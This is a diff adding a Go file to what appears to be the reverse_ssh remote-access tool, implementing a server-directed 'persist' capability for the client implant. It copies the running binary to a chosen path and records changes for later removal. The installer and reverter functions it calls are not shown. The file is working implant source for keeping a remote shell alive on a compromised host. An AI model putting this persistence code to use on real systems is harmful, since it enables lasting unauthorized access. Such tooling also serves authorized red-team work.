@@ -0,0 +1,170 @@
+package handlers
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"github.com/NHAS/reverse_ssh/pkg/storage"
+	"golang.org/x/crypto/ssh"
+)
+
+func init() {
+	capabilities = append(capabilities, "persist")
+}
+
+type persistRequest struct {
+	Method string
+	Name   string
+	Path   string
+	Remove bool
+
+	// Changes previously returned by an install, newline seperated. Only used when removing
+	Changes string
+}
+
+type persistResult struct {
+	// What was changed on install, or what could not be reverted on removal
+	Changes string
+	Message string
+}
+
+// A single modification made to the host, kept deliberately simple so the server can store it and hand it back to us for removal
+type persistChange struct {
+	Kind     string
+	Target   string
+	Previous string
+}
+
+func (c persistChange) String() string {
+	return c.Kind + "\t" + c.Target + "\t" + c.Previous
+}
+
+func encodeChanges(changes []persistChange) string {
+	lines := []string{}
+	for _, c := range changes {
+		lines = append(lines, c.String())
+	}
+	return strings.Join(lines, "\n")
+}
+
+func decodeChanges(s string) (changes []persistChange, err error) {
+	for _, line := range strings.Split(s, "\n") {
+		if line == "" {
+			continue
+		}
+
+		parts := strings.SplitN(line, "\t", 3)
+		if len(parts) != 3 {
+			return nil, fmt.Errorf("malformed change record: %q", line)
+		}
+
+		changes = append(changes, persistChange{Kind: parts[0], Target: parts[1], Previous: parts[2]})
+	}
+	return
+}
+
+// Persist installs or removes a persistence mechanism as directed by the server, the server keeps the record of what was changed
+func Persist(req *ssh.Request) {
+	var pr persistRequest
+	err := ssh.Unmarshal(req.Payload, &pr)
+	if err != nil {
+		req.Reply(false, []byte(fmt.Sprintf("Unable to unmarshal persist request: %s", err.Error())))
+		return
+	}
+
+	if pr.Remove {
+		changes, err := decodeChanges(pr.Changes)
+		if err != nil {
+			req.Reply(false, []byte(err.Error()))
+			return
+		}
+
+		remaining, err := revertChanges(changes)
+
+		result := persistResult{Changes: encodeChanges(remaining)}
+		if err != nil {
+			result.Message = err.Error()
+		}
+
+		req.Reply(true, ssh.Marshal(result))
+		return
+	}
+
+	if storage.MemoryOnly() {
+		req.Reply(false, []byte("client is in memory only mode, refusing to install persistence"))
+		return
+	}
+
+	if pr.Name == "" || strings.ContainsAny(pr.Name, "/\\\t\n") {
+		req.Reply(false, []byte("invalid persistence name"))
+		return
+	}
+
+	changes, err := installPersistence(pr.Method, pr.Name, pr.Path)
+	if err != nil {
+		// Dont leave half an install lying around
+		if _, revertErr := revertChanges(changes); revertErr != nil {
+			err = fmt.Errorf("%s (cleanup also failed: %s)", err, revertErr)
+		}
+
+		req.Reply(false, []byte(err.Error()))
+		return
+	}
+
+	req.Reply(true, ssh.Marshal(persistResult{Changes: encodeChanges(changes)}))
+}
+
+// Reverts changes newest first, returning the changes that couldnt be undone
+func revertChanges(changes []persistChange) (remaining []persistChange, err error) {
+	var failures []string
+	for i := len(changes) - 1; i >= 0; i-- {
+		if revertErr := revertChange(changes[i]); revertErr != nil {
+			remaining = append([]persistChange{changes[i]}, remaining...)
+			failures = append(failures, fmt.Sprintf("%s %s: %s", changes[i].Kind, changes[i].Target, revertErr))
+		}
+	}
+
+	if len(failures) > 0 {
+		err = errors.New(strings.Join(failures, ", "))
+	}
+
+	return
+}
+
+// Copies the running executable to path, refuses to clobber anything that already exists
+func copyExecutable(path string) (persistChange, error) {
+	current, err := os.Executable()
+	if err != nil {
+		return persistChange{}, errors.New("Unable to find the current binary location: " + err.Error())
+	}
+
+	err = os.MkdirAll(filepath.Dir(path), 0700)
+	if err != nil {
+		return persistChange{}, err
+	}
+
+	src, err := os.Open(current)
+	if err != nil {
+		return persistChange{}, err
+	}
+	defer src.Close()
+
+	dst, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0700)
+	if err != nil {
+		return persistChange{}, err
+	}
+	defer dst.Close()
+
+	change := persistChange{Kind: "file", Target: path}
+
+	_, err = io.Copy(dst, src)
+	if err != nil {
+		return change, err
+	}
+
+	return change, nil
+}